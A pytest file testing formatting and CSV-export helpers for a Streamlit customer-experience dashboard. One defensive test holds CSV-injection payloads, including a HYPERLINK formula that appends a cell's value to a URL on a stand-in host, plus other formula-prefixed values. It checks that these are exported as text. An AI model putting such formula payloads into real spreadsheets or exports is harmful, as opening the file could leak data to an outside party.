"""What every page's tables share (`command_centre.ui`), apart from a page."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import date

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
import streamlit as st

from cx_assets.command_centre.ui import (
    CHANGE_FORMAT,
    COUNT_FORMAT,
    MISSING,
    PERCENT_FORMAT,
    UTC_TIME_FORMAT,
    as_changes,
    as_percentages,
    count,
    csv_download,
    days_caption,
    delta,
    labelled,
    listed,
    markdown_text,
    money,
    money_change,
    number,
    plural,
    share,
    shown_formats,
)


def test_shares_are_shown_in_percent_and_the_frame_downloaded_keeps_gold_values():
    frame = pd.DataFrame({"agent": ["A", "B"], "conversion_rate": [0.125, 1 / 3]})
    shown, config = as_percentages(frame, ["conversion_rate"])
    assert shown["conversion_rate"].tolist() == pytest.approx(
        [12.5, 100 / 3]
    )  # shown `12.5%`, `33.3%`
    assert shown["agent"].tolist() == ["A", "B"]
    assert PERCENT_FORMAT % 12.5 == "12.5%"
    assert set(config) == {"conversion_rate"}
    # The CSV is written from the frame given: its fractions, as gold holds them.
    assert frame["conversion_rate"].tolist() == [0.125, 1 / 3]


def test_changes_are_shown_signed_to_a_tenth_and_a_fall_too_small_to_show_as_none():
    """A change in percent: -0.04 (a fall too small to show) read `-0.0%` under the printf
    format, which has no `z`; shown rounded, negative zero made zero, it reads `+0.0%`."""
    frame = pd.DataFrame({"journey_type": list("abcd"), "trend": [-0.04, 12.46, -2.0, None]})
    shown, config = as_changes(frame, ["trend"])
    assert shown["trend"].tolist()[:3] == [0.0, 12.5, -2.0]
    assert np.signbit(shown["trend"].tolist()[:3]).tolist() == [False, False, True]
    assert pd.isna(shown["trend"].iloc[3])
    assert [CHANGE_FORMAT % value for value in shown["trend"][:3]] == ["+0.0%", "+12.5%", "-2.0%"]
    assert CHANGE_FORMAT % -0.04 == "-0.0%"  # the format alone, as it was shown
    assert set(config) == {"trend"}
    # The CSV is written from the frame given: gold's values.
    assert frame["trend"].tolist()[:3] == [-0.04, 12.46, -2.0]


def test_the_csv_download_opens_in_excel_with_its_accents():
    """Found in an analysts' audit: the button's CSV was UTF-8 without a byte-order mark, and
    Excel reads such a file (opened with a double click) in the machine's ANSI code page, so
    a company 'Câmara & Duarte' and a manager 'Alícia' read 'CÃ¢mara' and 'AlÃ­cia'.
    Streamlit's own table export writes the mark for this reason; so does the button."""
    frame = pd.DataFrame({"name": ["Câmara & Duarte", "Alícia"], "pct": [12.5, None]})
    data = csv_download(frame)
    assert data.startswith(codecs.BOM_UTF8)
    assert data.decode("utf-8-sig") == frame.to_csv(index=False, lineterminator="\r\n")
    # Readers that know the mark skip it: the first header is still `name`.
    assert pd.read_csv(io.BytesIO(data)).columns.tolist() == ["name", "pct"]
    with_mark = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    assert next(with_mark) == ["name", "pct"]
    assert next(with_mark) == ["Câmara & Duarte", "12.5"]


def test_the_csv_download_writes_times_in_utc_as_excel_reads_them():
    """Found in an analysts' audit: a gold time went into the CSV as pandas writes a zoned
    one, `2026-11-24 09:15:02+00:00`, which Excel does not read as a time (it keeps the text:
    no sorting by time, no arithmetic). Now in UTC, as gold holds it, without the offset;
    the same instant to the microsecond, and an empty cell for none."""
    at = pd.Timestamp("2026-11-24 09:15:02", tz="UTC")
    frame = pd.DataFrame(
        {
            "called_at": [at, pd.NaT],
            "arrow_at": pd.Series([at, at + pd.Timedelta(microseconds=250)]).astype(
                pd.ArrowDtype(pa.timestamp("us", tz="UTC"))
            ),
            "local_at": [at.tz_convert("America/Sao_Paulo")] * 2,
            "date": pd.to_datetime(["2026-11-24", "2026-11-25"]),
        }
    )
    rows = list(csv.reader(io.StringIO(csv_download(frame).decode("utf-8-sig"))))
    assert rows == [
        ["called_at", "arrow_at", "local_at", "date"],
        # A column holding a fraction of a second writes one on each of its times.
        ["2026-11-24 09:15:02", "2026-11-24 09:15:02.000000", "2026-11-24 09:15:02", "2026-11-24"],
        ["", "2026-11-24 09:15:02.000250", "2026-11-24 09:15:02", "2026-11-25"],
    ]
    assert frame["called_at"].dt.tz is not None  # the page's frame is left as it was


def test_the_csv_download_keeps_a_landed_formula_as_text():
    """Found in an analysts' audit: a company landed as `=HYPERLINK("https://…"&A1,"Câmara")`
    reached gold's crm_companies as typed, and the CRM page's needy-clients and churn CSVs
    with it, as a cell Excel evaluates on opening the file (CSV injection: a cell starting
    with =, +, -, @, a tab or a carriage return is a formula). Such a text cell is written
    after a `'`, which Excel shows as text (OWASP ASVS 1.2.10); numbers, negative ones too,
    and other text are written as gold holds them."""
    formula = '=HYPERLINK("https://example.invalid/?x="&A1,"Câmara")'
    frame = pd.DataFrame(
        {
            "company": [formula, "+55 81", "-x", "@SUM(A1)", "\tcmd", "\r=1", "Câmara", None],
            "score": [-0.65, 1.0, -2.0, 0.0, 3.0, 4.0, 5.0, None],
            "owner_id": pd.array([-1, 2, 3, 4, 5, 6, 7, None], dtype="Int64"),
        }
    )
    rows = list(csv.reader(io.StringIO(csv_download(frame).decode("utf-8-sig"), newline="")))
    # A carriage return in a text cell stays in its row: pandas left such a cell unquoted,
    # and every reader (Excel's, Python's) started a row at it, the columns after it shifted.
    assert len(rows) == 1 + len(frame) and {len(row) for row in rows} == {3}
    assert [row[0] for row in rows[1:]] == [
        "'" + formula, "'+55 81", "'-x", "'@SUM(A1)", "'\tcmd", "'\r=1", "Câmara", "",
    ]  # fmt: skip
    assert [row[1] for row in rows[1:3]] == ["-0.65", "1.0"]
    assert [row[2] for row in rows[1:3]] == ["-1", "2"]
    assert frame["company"][0] == formula  # the page's frame is left as it was
    # A number held in a column of text is a number, written as it is (found by mutation
    # testing: its text taken for a formula, `'-1.5`, passed every test).
    mixed = pd.DataFrame({"reading": pd.Series([-1.5, "-x"], dtype=object)})
    rows = list(csv.reader(io.StringIO(csv_download(mixed).decode("utf-8-sig"))))
    assert rows == [["reading"], ["-1.5"], ["'-x"]]


def test_the_csv_download_keeps_a_formula_as_text_in_a_categorical_column_too():
    # A frame read from Parquet or built by the page may hold its labels as a pandas
    # category (a company or a journey type): its values are text all the same.
    frame = pd.DataFrame({"company": pd.Categorical(["=1+1", "Câmara", "=1+1", None])})
    rows = list(csv.reader(io.StringIO(csv_download(frame).decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == ["'=1+1", "Câmara", "'=1+1", ""]
    assert list(frame["company"].cat.categories) == ["=1+1", "Câmara"]  # left as it was


def test_a_table_shows_shares_and_changes_headed_in_words_and_downloads_golds_values(
    monkeypatch,
):
    """Found by mutation testing: `table` showing its frame's index (0, 1, … before every
    row), a missing value as Streamlit's `None` rather than `—`, or a table's shares back
    as fractions when it has changes too, passed every command-centre test. A leakage
    overview worked by hand: a share of 0.25 shown as 25.0 (`25.0%`), a change of -0.04
    as 0.0 (`+0.0%`) under the page's label, the headers in words, and the CSV of gold's
    names and values."""
    from cx_assets.command_centre import ui

    shown, downloaded = {}, {}

    def dataframe(frame, **options):
        shown.update(options, frame=frame)

    def download_button(label, data, **options):
        downloaded.update(options, label=label, data=data)

    monkeypatch.setattr(ui.st, "dataframe", dataframe)
    monkeypatch.setattr(ui.st, "download_button", download_button)
    frame = pd.DataFrame(
        {"journey_type": ["billing", "pharmacy"], "fix_rate": [0.25, None], "trend": [-0.04, 12.46]}
    )
    ui.table(frame, name="overview", shares=["fix_rate"], changes=["trend"],
             column_config={"trend": "trend (week on week)"})  # fmt: skip
    assert (shown["hide_index"], shown["placeholder"]) == (True, MISSING)
    assert shown["frame"]["fix_rate"].tolist()[0] == 25.0 and pd.isna(shown["frame"]["fix_rate"][1])
    assert shown["frame"]["trend"].tolist() == [0.0, 12.5]
    config = shown["column_config"]
    assert [config[column]["label"] for column in frame.columns] == [
        "journey type", "fix rate", "trend (week on week)",
    ]  # fmt: skip
    formats = [config[column].get("type_config", {}).get("format") for column in frame.columns]
    assert formats == [None, "%.1f%%", "%+.1f%%"]
    assert (downloaded["label"], downloaded["file_name"]) == ("Download CSV", "overview.csv")
    assert downloaded["data"].decode("utf-8-sig") == (
        "journey_type,fix_rate,trend\r\nbilling,0.25,-0.04\r\npharmacy,,12.46\r\n"
    )


def test_a_table_without_shares_is_shown_as_given():
    frame = pd.DataFrame({"rows": [3]})
    shown, config = as_percentages(frame, [])
    assert shown is frame and config == {}


def test_days_read_as_days_and_zoned_timestamps_as_utc_times():
    at = pd.Timestamp("2026-11-24 09:15:02", tz="UTC")
    frame = pd.DataFrame(
        {
            "date": pd.to_datetime(["2026-11-24", "2026-11-25"]),
            "called_at": [at, at],
            "arrow_at": pd.Series([at, at]).astype(pd.ArrowDtype(pa.timestamp("us", tz="UTC"))),
            "local_at": [at.tz_convert("America/Sao_Paulo")] * 2,
            "naive_at": pd.to_datetime(["2026-11-24 09:15", "2026-11-25 00:00"]),
            # Arrow's timestamp without a zone is not a UTC time (found by mutation testing:
            # read as one, it passed every test).
            "arrow_naive_at": pd.Series([at.tz_localize(None)] * 2).astype(
                pd.ArrowDtype(pa.timestamp("us"))
            ),
        }
    )
    config = shown_formats(frame)
    assert set(config) == {"date", "called_at", "arrow_at", "local_at"}
    assert config["date"]["type_config"]["format"] == "YYYY-MM-DD"
    for column in ("called_at", "arrow_at", "local_at"):
        # Shown in UTC whatever the column's zone: "2026-11-24 09:15:02 UTC".
        shown = config[column]["type_config"]
        assert (shown["type"], shown["format"], shown["timezone"]) == (
            "datetime", UTC_TIME_FORMAT, "UTC"
        )  # fmt: skip


def test_counts_read_with_thousands_separated_and_identifiers_as_they_are():
    frame = pd.DataFrame(
        {
            "tickets_handled": [5976, 12],
            "open_deals": pd.array([1450, None], dtype="Int64"),
            "calls": pd.Series([2000, 3]).astype(pd.ArrowDtype(pa.int64())),
            "owner_id": [1234, 5678],
            "id": [1001, 1002],
            "converted": [True, False],
            "mean_csat": [4.25, 3.5],
            "agent_name": ["Carla", "Omar"],
        }
    )
    config = shown_formats(frame)
    assert set(config) == {"tickets_handled", "open_deals", "calls"}
    assert {column["type_config"]["format"] for column in config.values()} == {COUNT_FORMAT}
    assert COUNT_FORMAT == "%,d"  # Streamlit's printf: "5,976", as the cards write it


def test_a_header_reads_with_spaces_unless_the_page_labels_it_and_keeps_its_format():
    counts = {"type_config": {"type": "number", "format": COUNT_FORMAT}}
    # No page configuration: the name as the charts' axes write it, the format kept.
    assert labelled("tickets_handled", counts, None) == {**counts, "label": "tickets handled"}
    # A page's label alone (a string, as Streamlit reads one) keeps the format shown.
    assert labelled("mean_csat", counts, "mean CSAT") == {**counts, "label": "mean CSAT"}
    # A page's configuration replaces the format; its unset label still gets one.
    page = st.column_config.NumberColumn(format="%.2f")
    config = labelled("mean_csat", counts, page)
    assert (config["label"], config["type_config"]["format"]) == ("mean csat", "%.2f")
    page = st.column_config.NumberColumn("median resolution (h)", format="%.1f")
    assert labelled("median_resolution_hours", None, page)["label"] == "median resolution (h)"


def test_markdown_text_escapes_marks_and_the_dollar_that_starts_latex():
    """Two amounts on a line were one LaTeX formula in Streamlit's Markdown; a gold value's
    `*` or `_` would be emphasis."""
    assert markdown_text("$21,900 a year · $3,650") == "\\$21,900 a year · \\$3,650"
    assert markdown_text("*a* _b_ [c](d) `e` #f |g| ~h~ <i> \\") == (
        "\\*a\\* \\_b\\_ \\[c\\](d) \\`e\\` \\#f \\|g\\| \\~h\\~ \\<i\\> \\\\"
    )
    assert markdown_text(12.5) == "12.5"
    # Names listed in a caption are each escaped (found by mutation testing: listed as typed,
    # `**b**` bold in the leakage page's caption, passed every unit and page test).
    assert listed(["**b**", "a_b", 12.5]) == "\\*\\*b\\*\\*, a\\_b, 12.5"


def test_money_writes_the_sign_first_and_no_minus_zero():
    """Found in an audit: a negative amount read `$-1` (and `$-0` for a few cents)."""
    assert [money(v) for v in (1234.4, -1200.0, -0.4, -0.6, 0.0, None, float("nan"))] == [
        "$1,234", "-$1,200", "$0", "-$1", "$0", MISSING, MISSING,
    ]  # fmt: skip


def test_cards_write_counts_shares_numbers_days_and_plurals_as_managers_read_them():
    """The cards' and captions' formats, on values worked out by hand: counts with their
    thousands separated (as tables and charts write them), shares to a tenth of a percent,
    a missing or NaN value as a dash, one day named alone, and 0 of a thing in the plural."""
    nan = float("nan")
    assert [count(v) for v in (5976, 1234567.4, 0, None, nan)] == [
        "5,976", "1,234,567", "0", MISSING, MISSING,
    ]  # fmt: skip
    assert [share(v) for v in (0.75, 0.15714, 1, None, nan)] == [
        "75.0%", "15.7%", "100.0%", MISSING, MISSING,
    ]  # fmt: skip
    assert [number(v, ".2f") for v in (3.666, None, nan)] == ["3.67", MISSING, MISSING]
    assert [plural(n, "company", "companies") for n in (0, 1, 2, 1200)] == [
        "0 companies", "1 company", "2 companies", "1,200 companies",
    ]  # fmt: skip
    assert plural(1, "ticket") == "1 ticket" and plural(0, "ticket") == "0 tickets"
    day1, day2 = date(2024, 1, 1), date(2024, 1, 2)
    assert (days_caption(day1, day1), days_caption(day1, day2)) == (
        "2024-01-01", "2024-01-01 to 2024-01-02",
    )  # fmt: skip
    assert [money_change(v) for v in (-12032.4, 400.0, 0.0, None)] == [
        "-$12,032", "+$400", "$0", MISSING,
    ]  # fmt: skip
    assert money_change(-27.5, decimals=2) == "-$27.50"
    # A change that rounds to none is written as none, never `-$0` or `+$0`.
    assert [money_change(v) for v in (-0.4, 0.4, -0.5, 0.6)] == ["$0", "$0", "$0", "+$1"]
    assert [money_change(v, decimals=2) for v in (-0.004, 0.004, -0.006)] == [
        "$0.00", "$0.00", "-$0.01",
    ]  # fmt: skip


def test_a_cards_delta_keeps_its_colour_and_a_change_that_rounds_to_none_is_grey():
    """Found by mutation testing: `delta` dropping the colour a card asks for (the leakage
    page's "Fastest growing", where a rise is bad news: `inverse`, red), or reading a change
    of 1 (`+1.0 pp`) as none, passed every command-centre test but the calls page's. A
    change with a digit other than 0 keeps its colour and arrow; one that rounds to none
    (`+0.0 pp`, `$0`, `+0.0% week on week`) is grey without an arrow; no delta is none."""
    assert delta("+14.0% week on week", colour="inverse") == {
        "delta": "+14.0% week on week", "delta_color": "inverse",
    }  # fmt: skip
    assert delta("+1.0 pp") == {"delta": "+1.0 pp", "delta_color": "normal"}
    assert delta(None) == {"delta": None, "delta_color": "normal"}
    for none in ("+0.0 pp", "$0", "+0.0% week on week"):
        assert delta(none, colour="inverse") == {
            "delta": none, "delta_color": "off", "delta_arrow": "off",
        }  # fmt: skip


def test_the_date_filter_offers_the_latest_90_days():
    """Of 100 days, 2024-01-01 to 2024-04-09 (2024 a leap year: April 9th is day 100), the
    latest 90, 2024-01-11 to 2024-04-09; of 30 days, all 30. A range half picked (its first
    day clicked, the second not yet) or a single day picked is that day alone (found by
    mutation testing: either read as the day to the last passed every test)."""
    from streamlit.testing.v1 import AppTest

    def page():
        from datetime import date, timedelta

        import streamlit as st

        from cx_assets.command_centre import ui

        for how_many, key in ((100, "hundred"), (30, "thirty")):
            days = [date(2024, 1, 1) + timedelta(days=n) for n in range(how_many)]
            st.write(f"{key} {' '.join(str(day) for day in ui.date_filter(days, key=key))}")

    app = AppTest.from_function(page, default_timeout=30)
    app.run()
    assert not app.exception
    assert [block.value for block in app.markdown] == [
        "hundred 2024-01-11 2024-04-09",
        "thirty 2024-01-01 2024-01-30",
    ]
    for picked, shown in (((date(2024, 1, 5),), "2024-01-05"), (date(2024, 1, 6), "2024-01-06")):
        app.date_input(key="thirty").set_value(picked).run()
        assert app.markdown[1].value == f"thirty {shown} {shown}"


def test_the_query_cache_is_bounded_in_bytes_not_only_in_entries(monkeypatch):
    # 1,024 entries of one query each: at the contract's volumes a page's larger results (90
    # days of support's tickets to review) are over a megabyte, so a server left running for
    # weeks of date ranges could keep a gigabyte. Three results of ~112 MB each (pickled, as
    # Streamlit counts them) pass the cap of 256 MB: the oldest is dropped, and asked again,
    # is computed again.
    from cx_assets.command_centre import ui

    computed: list[str] = []

    def big_result(self, sql, tables, params):
        computed.append(sql)
        return pd.DataFrame({"n": np.zeros(14_000_000)})

    monkeypatch.setattr(ui.GoldLake, "query", big_result)
    ui._cached_query.clear()
    try:
        for sql in ("SELECT 1", "SELECT 2", "SELECT 3", "SELECT 1"):
            ui._cached_query("/nowhere", sql, (), (), ())
    finally:
        ui._cached_query.clear()
    assert computed == ["SELECT 1", "SELECT 2", "SELECT 3", "SELECT 1"]
